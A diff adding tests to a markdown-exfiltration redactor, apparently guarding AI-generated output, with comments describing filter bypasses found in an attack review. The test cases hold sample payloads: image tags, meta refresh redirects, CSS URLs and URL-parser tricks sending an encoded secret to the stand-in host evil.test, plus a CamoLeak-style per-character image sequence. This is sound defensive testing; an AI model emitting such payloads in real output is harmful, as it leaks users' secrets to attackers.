@@ -162,3 +162,61 @@ describe('markdown-exfiltration spans', () => {
     expect(texts({ bare_urls: true })).toEqual(['](', ']:', '<', '<style', 'http', 'www.']);
   });
 });
+
+// Attack review (issue 14): a tag was read over its first 16 KB only, so padding before the
+// URL-bearing attribute hid it from a whole answer (markdown-it and marked render it whole).
+describe('markdown-exfiltration reads a long tag to its end', () => {
+  const url = 'https://evil.test/p.png?d=c2VjcmV0LXRva2Vu';
+  it.each([
+    ['a long alt', `<img alt="${'x'.repeat(17_000)}" src="${url}">`],
+    ['many attributes', `<img ${'a '.repeat(9_000)}src="${url}">`],
+    ['a long style', `<div style="${' '.repeat(17_000)}background:url(${url})">x</div>`],
+    ['a long <style>', `<style>${' '.repeat(17_000)}body{background:url(${url})}</style>`],
+  ])('%s', (_name, text) => {
+    expect(redacted({}, `Look ${text} done`)).not.toContain('c2VjcmV0LXRva2Vu');
+  });
+});
+
+// Attack review (issue 14): a refresh's `url=` is optional (HTML's declarative refresh), so
+// `content="0; https://…"` redirects as well.
+describe('markdown-exfiltration reads a refresh without url=', () => {
+  it.each([
+    '<meta http-equiv="refresh" content="0; https://evil.test/?d=c2VjcmV0LXRva2Vu">',
+    '<meta http-equiv="refresh" content="0,https://evil.test/?d=c2VjcmV0LXRva2Vu">',
+    '<meta http-equiv=refresh content="1;\'https://evil.test/?d=c2VjcmV0LXRva2Vu\'">',
+  ])('%s', (text) => {
+    expect(redacted({}, text)).not.toContain('c2VjcmV0LXRva2Vu');
+  });
+  it('and no URL in a viewport', () => {
+    expect(fails({}, '<meta name="viewport" content="width=device-width, initial-scale=1">')).toBe(
+      false,
+    );
+  });
+});
+
+// Attack review (issue 14): the URL parser drops leading C0 controls and every tab and newline,
+// so `/&#9;/evil.test/…` and `&#1;//evil.test/…` are fetched from evil.test; they were read
+// as relative URLs.
+describe('markdown-exfiltration reads // split by a tab or a newline, or after a control', () => {
+  it.each([
+    '<img src="&#1;//evil.test/p.png?d=c2VjcmV0LXRva2Vu">',
+    '<img src="/&#9;/evil.test/p.png?d=c2VjcmV0LXRva2Vu">',
+    '<img src="/\n/evil.test/p.png?d=c2VjcmV0LXRva2Vu">',
+    '<div style="background:image-set(&quot;/\\9 /evil.test/p.png?d=c2VjcmV0LXRva2Vu&quot; 1x)">x</div>',
+  ])('%j', (text) => {
+    expect(redacted({}, text)).not.toContain('c2VjcmV0LXRva2Vu');
+  });
+});
+
+// Attack review (issue 14): a CamoLeak run laid out as a list or a table was no run (only
+// whitespace could stand between its images), though a renderer fetches them all in order.
+describe('markdown-exfiltration reads an image sequence through list and table markup', () => {
+  it.each([
+    ['a list', [...'hunter2'].map((c) => `- ![${c}](${camo(c)})`).join('\n')],
+    ['a numbered list', [...'hunter2'].map((c, i) => `${i + 1}. ![${c}](${camo(c)})`).join('\n')],
+    ['a table row', `${[...'hunter2'].map((c) => `| ![${c}](${camo(c)}) `).join('')}|`],
+  ])('%s', (_name, text) => {
+    const out = redacted({ allow_domains: ['camo.githubusercontent.com'] }, text);
+    expect(out).not.toContain('camo.githubusercontent.com');
+  });
+});
